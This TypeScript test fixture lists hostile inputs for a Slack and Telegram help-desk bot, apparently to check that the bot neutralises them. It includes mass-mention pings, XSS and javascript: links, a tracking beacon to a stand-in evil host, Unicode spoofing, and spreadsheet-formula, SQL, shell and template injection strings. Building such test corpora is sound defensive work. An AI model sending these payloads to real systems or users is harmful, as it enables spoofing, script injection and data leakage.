/**
 * What people may write to shout through the desk, to dress up as it, or to break it (reliability.md SEC4). Invisible
 * characters are written as escapes, so that a reader sees them.
 */
const calls = [
  '<!channel>',
  '<!here>',
  '<!here|here>',
  '<!everyone> hear me',
  '<!subteam^S0AGENTS>',
  '<!subteam^S0AGENTS|@agents>',
  '<@U0ADA>',
  '<@U0BO|bo> please',
  '<#C0TRIAGE>',
  '<#C0TRIAGE|triage>',
  '@channel',
  '@here and @everyone',
  '@all @team @online',
  '\uff20channel \uff20here',
  '@\u200bchannel @\u2060here',
  '@ch\u0430nnel @h\u0435re',
  '<\u200b!channel>',
  '&lt;!channel&gt;',
  '&amp;lt;!here&amp;gt;',
  '<!date^1392734382^{date_short}|today>',
]

const telegramCalls = [
  '@tom @everyone @deskhand_bot',
  '[Tom](tg://user?id=7002)',
  '<a href="tg://user?id=7002">Tom</a>',
  'tg://user?id=7002',
  'tg://resolve?domain=deskhand_bot&start=x',
  'please /start or /new@deskhand_bot',
  'https://t.me/deskhand_bot?start=stolen',
  '#hashtag $CASH +15551234567',
]

const links = [
  '<http://evil.example|http://bank.example>',
  '<https://evil.example>',
  '<mailto:boss@bank.example|the boss>',
  '[your bank](https://evil.example/login)',
  '[click](javascript:alert(1))',
  '<javascript:alert(1)|click>',
  'javascript:alert(document.cookie)',
  '<data:text/html;base64,PHNjcmlwdD4=|see>',
  'data:text/html,<script>alert(1)</script>',
  'file:///etc/passwd',
  '<slack://open?team=T0DEMO|open>',
  'vbscript:msgbox(1) about:blank blob:x',
  'http://xn--80ak6aa92e.example/ http://\u0430pple.example/',
  'http://user:pass@127.0.0.1:5432/ http://[::1]/',
  '![beacon](http://evil.example/pixel.gif?who=ada)',
  '<img src="http://evil.example/pixel.gif" onerror="alert(1)">',
]

const markup = [
  '*bold* _italic_ ~struck~ `code`',
  '```\nfence\n```',
  '__under__ ||spoiler|| **double**',
  '\\*escaped\\* \\_ \\[ \\] \\( \\) \\~ \\` \\> \\# \\+ \\- \\= \\| \\{ \\} \\. \\!',
  '<b>bold</b> <i>x</i> <tg-spoiler>s</tg-spoiler> <pre>p</pre>',
  '<b><i>unclosed',
  '> quoted\n>> twice\n>>> all',
  '* _ ~ ` unclosed *',
  '{"type":"mrkdwn","text":"<!channel>"}',
  '[{"type":"rich_text","elements":[{"type":"broadcast","range":"channel"}]}]',
]

const invisible = [
  'pay \u202eeno ton\u202c now',
  '\u2066isolate\u2069 \u2067right\u2069 \u2068first\u2069',
  '\u202dleft\u202c invoice\u202efdp.exe',
  '\u200f\u05e9\u05dc\u05d5\u05dd\u200e hello',
  'zero\u200bwidth\u200cjoin\u200der\ufeffmark',
  'tag\u{e0041}\u{e0042}\u{e007f}ged',
  'nul\0in the middle',
  'lone \ud800 high and \udc00 low',
  'bell\u0007 escape\u001b[31mred\u001b[0m',
  'line\u2028separator\u2029paragraph',
]

const breaking = [
  'Subject\r\nBcc: everyone@bank.example\r\n\r\nbody',
  'To: a@b.example\nContent-Type: text/html',
  "=cmd|' /C calc'!A0",
  '+1+1 and -2+3',
  '@SUM(1+1)*cmd',
  '{ $requester } { -brand } {"{"}',
  '%s %n %d %x %%',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what somebody types
  '${SECRET} $(id) `id` #{7*7} {{7*7}}',
  "'; drop table ticket; --",
  '" or "1"="1',
  '\\u0000 \\" \\\\ "}',
  '(a+)+$ [[:alpha:]] .*(?=x){99999}',
]

const large = [
  `Z${'\u0351'.repeat(400)}algo`,
  `family ${'👨‍👩‍👧‍👦'.repeat(60)}`,
  `flags ${'🇸🇪'.repeat(100)}`,
  'x'.repeat(1500),
]

export const hostileStrings: readonly string[] = [
  ...calls,
  ...telegramCalls,
  ...links,
  ...markup,
  ...invisible,
  ...breaking,
  ...large,
]

/**
 * What is left of words for a reader: without blanks, controls, and what is not seen at all; a half of a character is
 * a mark of replacement, as every program shows it, and is left out, too.
 */
export function readable(words: string): string {
  return words
    .toWellFormed()
    .normalize('NFC')
    .replace(/[\p{Cc}\p{Cf}\s\ufffd]/gu, '')
}
